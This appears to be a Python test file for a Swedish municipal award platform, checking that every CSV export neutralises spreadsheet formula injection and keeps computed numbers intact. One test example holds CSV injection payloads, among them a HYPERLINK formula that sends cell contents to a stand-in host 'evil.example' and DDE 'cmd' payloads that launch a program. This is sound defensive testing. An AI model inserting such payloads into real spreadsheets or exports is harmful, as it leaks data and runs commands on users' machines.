"""Spreadsheet formulas from the public never reach the organiser's Excel as formulas.

Every CSV the platform writes — the public winners download and `export_winners --format csv`,
the organiser's nominations and candidacies, the chair's results of a scoring round — is
fetched as its user fetches it, with text that begins like a formula (OWASP's list: `=`, `+`,
`-`, `@`, tab, carriage return; also after leading spaces or line breaks) typed into every field
a person can write. Every such text cell must come out starting with a single quote and
otherwise unchanged; numbers the platform computes itself (ranks, means, negative z-scores)
stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client
from django.utils import timezone, translation
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from kommunpris.accounts.testing import sign_in_verified
from kommunpris.archive.models import Winner
from kommunpris.audit.vocabulary import CLI
from kommunpris.awards.models import Award, Edition
from kommunpris.awards.services import close_nominations, create_edition, open_nominations
from kommunpris.jury import services as jury
from kommunpris.jury.models import Criterion, Role
from kommunpris.nominations import services as nominations
from kommunpris.nominations.models import Candidacy, Nomination, Stage
from kommunpris.register.models import Municipality

ORGANISER = "organisator@kvalitetsmassan.se"
PASSWORD = "rätt-häst-batteri-häftstift"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(,\d+)?")
# Columns of numbers the platform computes (by header): digits with a decimal comma.
NUMBER_COLUMNS = {
    "year",
    "Placering",
    "Medelpoäng (0–4)",
    "Medel-z-poäng",
    "Spridning",
    "Antal bedömningar",
}


@dataclass
class World:
    edition: Edition
    nomination: Nomination
    criterion: Criterion
    winner: Winner
    organiser: Client
    chair: Client


@pytest.fixture
def world(award: Award, django_capture_on_commit_callbacks: Any) -> Iterator[World]:
    cache.clear()
    now = timezone.now()
    organiser = User.objects.create_user(
        username=ORGANISER, email=ORGANISER, password=PASSWORD, is_staff=True
    )
    edition = open_nominations(
        edition=create_edition(
            award=award,
            year=2029,
            nominations_close_at=now + timedelta(days=30),
            supplement_close_at=now + timedelta(days=45),
            ceremony_at=now + timedelta(days=200),
            actor=organiser,
        ),
        actor=organiser,
    )
    sundsvall = Municipality.objects.get(code="2281")
    with django_capture_on_commit_callbacks(execute=True):
        submitted = nominations.submit_nomination(
            edition=edition,
            municipality=sundsvall,
            proud="Bygglov på nätet.",
            effect="Kortare väntan.",
            learned="Att mäta.",
            nominator_name="Anna Andersson",
            nominator_email="anna@example.se",
        )
    link = re.search(r"/nominera/bekrafta/([^/\s]+)/", mail.outbox[-1].body)
    assert link is not None
    nominations.confirm_nomination(token=link.group(1))
    seat = jury.invite_member(
        edition=edition, email="ordforande@example.se", role=Role.CHAIR, actor=CLI
    )
    jury.accept_invitation(actor=seat.user, password=PASSWORD)
    chair = User.objects.get(pk=seat.user_id)
    edition = close_nominations(edition=edition, actor=organiser)
    assert edition.supplement_close_at is not None
    jury.start_jury_review(
        edition=edition, actor=CLI, now=edition.supplement_close_at + timedelta(minutes=1)
    )
    scoring_round = jury.open_round(edition=edition, stage=Stage.CANDIDACY, actor=chair)
    candidacy = Candidacy.objects.prefetch_related("members__municipality").get(edition=edition)
    criteria = list(Criterion.objects.filter(edition=edition))
    jury.save_score_sheet(
        scoring_round=scoring_round,
        candidacy=candidacy,
        actor=chair,
        entries={c.pk: jury.EntryInput(3, "") for c in criteria},
        submit=True,
    )
    with translation.override("sv"):
        yield World(
            edition=edition,
            nomination=Nomination.objects.get(pk=submitted.nomination.pk),
            criterion=criteria[0],
            winner=Winner.objects.get(edition__year=2023),
            organiser=sign_in_verified(Client(), organiser),
            chair=sign_in_verified(Client(), chair),
        )


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "CSV for Swedish spreadsheets starts with a BOM"
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def exports(world: World) -> dict[str, list[dict[str, str]]]:
    """Every CSV the platform writes, fetched as its user fetches it."""
    year = world.edition.year
    desk = f"/arbetsyta/nomineringar/{year}/"
    command = io.StringIO()
    call_command("export_winners", format="csv", stdout=command)
    fetched = {
        "winners download": Client().get("/vinnare/vinnare.csv"),
        "nominations": world.organiser.get(desk + "nomineringar.csv"),
        "candidacies": world.organiser.get(desk + "kandidaturer.csv"),
        "results": world.chair.get(f"/arbetsyta/jury/{year}/omgang/kandidatur/resultat.csv"),
    }
    for name, response in fetched.items():
        assert response.status_code == 200, name
    found = {name: _rows(r.getvalue().decode("utf-8")) for name, r in fetched.items()}
    found["export_winners"] = _rows(command.getvalue())
    return found


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \n")[:1] in TRIGGERS and cell.lstrip(" \n") != ""


def as_typed(cell: str) -> set[str]:
    """What a cell may have been typed as: itself, or the text behind a neutralising quote."""
    return {cell, cell[1:]} if cell.startswith("'") and is_formula(cell[1:]) else {cell}


# Text as a person might type it into a form field: a formula's first character (or spaces and
# line breaks before one), then anything.
_BODY = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
)
hostile = st.builds(
    lambda lead, first, body: lead + first + body,
    st.sampled_from(["", " ", "  ", "\n"]),
    st.sampled_from([*TRIGGERS, "", "'", "a"]),
    _BODY,
)


@given(
    texts=st.fixed_dictionaries(
        {
            "proud": hostile,
            "effect": hostile,
            "learned": hostile,
            "nominator_name": hostile,
            "nominator_organisation": hostile,
            "nominator_email": hostile.map(lambda t: t.replace("@", "") + "@example.se"),
            "rejected_reason": hostile,
            "criterion": hostile,
            "display_name": hostile,
            "motivation": hostile,
        }
    )
)
@example(
    texts={
        "proud": '=HYPERLINK("https://evil.example/?"&A1,"Läs mer")',
        "effect": "-2+3+cmd|' /C calc'!A0",
        "learned": "@SUM(1+1)*cmd|' /C calc'!A0",
        "nominator_name": "+46 70 123 45 67",
        "nominator_organisation": "\t=1+1",
        "nominator_email": "=cmd|calc!A0@example.se",
        "rejected_reason": "\r=1+1",
        "criterion": "=1+1",
        "display_name": " =1+1",
        "motivation": "\n=1+1",
    }
)
@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_every_csv_export_neutralises_formulas_and_keeps_numbers(
    world: World, texts: dict[str, str]
) -> None:
    Nomination.objects.filter(pk=world.nomination.pk).update(
        **{
            field: texts[field]
            for field in (
                "proud",
                "effect",
                "learned",
                "nominator_name",
                "nominator_organisation",
                "nominator_email",
                "rejected_reason",
            )
        }
    )
    Criterion.objects.filter(pk=world.criterion.pk).update(name=texts["criterion"])
    Winner.objects.filter(pk=world.winner.pk).update(
        display_name=texts["display_name"], motivation=texts["motivation"]
    )
    typed = set(texts.values())
    seen: set[str] = set()
    found = exports(world)
    for name, rows in found.items():
        assert rows, name
        for row in rows:
            for column, cell in row.items():
                if column in NUMBER_COLUMNS:
                    assert cell == "" or NUMBER.fullmatch(cell), (name, column, cell)
                    continue
                assert not is_formula(cell), (name, column, cell)
                seen |= as_typed(cell)
        for column in rows[0]:
            assert not is_formula(column), (name, column)
            seen |= as_typed(column)
    # What was typed comes out as typed, every field somewhere (the criterion heads a column).
    assert seen >= typed


def test_every_csv_is_written_by_the_one_neutralising_writer() -> None:
    """A new export cannot bypass kommunpris.spreadsheets: no other module writes CSV."""
    import kommunpris

    package = Path(kommunpris.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text("utf-8"))
    }
    assert writers == {"spreadsheets.py"}


def test_neutralise_follows_owasp_and_leaves_other_text_alone() -> None:
    from kommunpris.spreadsheets import Number, cell, neutralise

    assert [neutralise(t) for t in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\n@A")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "' =1",
        "'\n@A",
    ]
    assert [neutralise(t) for t in ("", "  ", "Umeå", "1-2", "a=b", "'=1")] == [
        "",
        "  ",
        "Umeå",
        "1-2",
        "a=b",
        "'=1",
    ]
    assert [cell(v) for v in (None, 3, -2, Number(-0.534), Number(None), Number(2.5, 1))] == [
        "",
        "3",
        "-2",
        "-0,53",
        "",
        "2,5",
    ]
